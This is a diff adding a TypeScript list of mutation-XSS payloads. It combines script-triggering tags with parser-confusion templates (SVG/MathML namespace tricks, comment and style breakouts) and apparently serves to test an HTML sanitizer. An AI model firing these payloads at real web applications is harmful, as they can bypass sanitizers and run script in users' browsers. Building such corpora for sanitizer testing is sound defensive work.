@@ -1,0 +1,68 @@
+/**
+ * Markup whose meaning changes when a browser writes it out and reads it in again, or between a browser's parser and
+ * another one. `$` is what then comes to life; it calls `x`.
+ */
+const PAYLOADS = [
+  '<img src=x onerror=xss()>',
+  '<svg onload=xss()></svg>',
+  '<script>xss()</script>',
+  '<details open ontoggle=xss()>t</details>',
+  '<a href="javascript:xss()">t</a>',
+  '<iframe srcdoc="<script>parent.xss()</script>"></iframe>',
+  '<body onpageshow=xss()>',
+  '<input autofocus onfocus=xss()>',
+  '<style onload=xss()></style>',
+  '<p onmouseover=xss()>t</p>',
+  '<embed src="javascript:xss()">',
+  '<video onerror=xss() src=x></video>',
+  '<math><mi href="javascript:xss()">t</mi></math>',
+];
+
+const CARRIERS = [
+  '<svg></p><style><a id="</style>$">',
+  '<svg><p><style><!--</style>$--></p></svg>',
+  '<math><mtext><table><mglyph><style><!--</style><img title="--&gt;$">',
+  '<math><mi><table><mglyph><svg><mtext><style><path id="</style>$">',
+  '<form><math><mtext></form><form><mglyph><style></math>$',
+  '<math><annotation-xml encoding="text/html"><style></style>$</annotation-xml></math>',
+  '<svg><foreignObject><noscript>$</noscript></foreignObject></svg>',
+  '<svg><desc><title>$</title></desc></svg>',
+  '<svg><![CDATA[>$]]></svg>',
+  '<noscript><p title="</noscript>$"></noscript>',
+  '<p title="</p>$">t</p>',
+  '<p lang="--&gt;$">t</p>',
+  '<!-- > -- >$<!-- -->',
+  '<!--!>$--!>',
+  '<!----!>$<!-- -->',
+  '<?php ?>$<?x $ ?>',
+  '<template><p></template>$',
+  '<select><template>$</template></select>',
+  '<table><caption><select>$</select></caption></table>',
+  '<listing>&lt;/listing&gt;$</listing>',
+  '<plaintext>$',
+  '<pre>\n\n$</pre>',
+  '<p>&lt;x title="</p>$">',
+  '<img alt="`>$" src="https://e.example/`$">',
+  '<a title=\'"$\' href="https://e.example/?q=%22%3E$">t</a>',
+  '<svg><style><!--<title>--></style></svg>$<style>--></title></style>',
+  '<svg><title><style></title></svg>$<style></style></title></svg>',
+  '<math><mtext><p><style></math>$</style></p></mtext></math>',
+  '<math><ms><b><h1><table><mglyph><style></mglyph></table></h1></b>$',
+  '<table><svg><desc><td></desc>$</td></svg></table>',
+  '<p><svg><foreignObject><p></svg>$',
+  '<a><p><a></p></a>$<table><a></table>$',
+  '<dl><dt><button><dd>$</dt></button></dl>',
+  '<ruby><rtc><rt>$</rtc></ruby><rb><rp>$</rp>',
+  '<h1><h2>$</h1></h2><li><p></li>$',
+  '<table><tr><td><table><caption>$</td></tr></caption></table>$',
+  '<noframes></noframe>$</noframes>$',
+  '<iframe></iframe >$<iframe/>$',
+  '<script><!--<script></script>$--></script>$',
+  '<x \u0000y="\u0000>$">$</x>',
+  '<p title=`</p>$`>$</p>',
+  '<q cite="https://e.example/&quot;>$">t</q>',
+];
+
+export const MUTATIONS: readonly string[] = CARRIERS.flatMap((carrier) =>
+  PAYLOADS.map((payload) => carrier.replaceAll('$', () => payload)),
+);
